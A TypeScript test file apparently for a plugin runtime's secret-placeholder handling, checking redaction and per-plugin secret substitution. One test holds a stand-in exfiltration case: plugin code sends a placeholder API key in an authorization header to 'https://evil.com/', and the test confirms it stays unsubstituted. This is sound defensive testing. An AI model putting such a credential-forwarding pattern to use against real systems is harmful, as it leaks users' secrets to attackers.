import { expect, test } from "vitest";

import { loadPlugin } from "../runtime/support/load-plugin.ts";
import { INJECTED, network, SECRET } from "./support/network.ts";

const ASK = `exports.onEvent = async (event) => {
  const response = await fetch("https://api.x.com/", { headers: { authorization: event.value } });
  return response.text();
};`;

test("a placeholder is worth nothing to a plugin that has no such secret, and each has its own", async () => {
  const mine = network({ answer: () => new Response(SECRET) });
  const others = network({ fields: [{ ...INJECTED, key: "otherKey" }], answer: () => new Response(SECRET) });
  const [plugin, other] = [
    await loadPlugin(ASK, { raw: true, ...mine.options }),
    await loadPlugin(ASK, { raw: true, ...others.options }),
  ];
  const event = { value: "{{secret:apiKey}}" };
  expect(await plugin.run("onEvent", event)).toBe("[redacted]");
  // It is not the other's secret, so it is not the other's to hide either.
  expect(await other.run("onEvent", event)).toBe(SECRET);
  expect(mine.left.map(({ headers }) => headers["authorization"])).toEqual([`Bearer ${SECRET}`]);
  expect(others.left.map(({ headers }) => headers["authorization"])).toEqual(["{{secret:apiKey}}"]);
});

test("an event that carries a placeholder is not a config: it works as far as the plugin lets it", async () => {
  const { left, options } = network();
  const plugin = await loadPlugin(
    `exports.onEvent = async (event) => { await fetch(event.url, { headers: { authorization: event.value } }); }`,
    { raw: true, ...options },
  );
  await plugin.run("onEvent", { url: "https://evil.com/", value: "Bearer {{secret:apiKey}}" });
  expect(left.map(({ headers }) => headers["authorization"])).toEqual(["Bearer {{secret:apiKey}}"]);
});
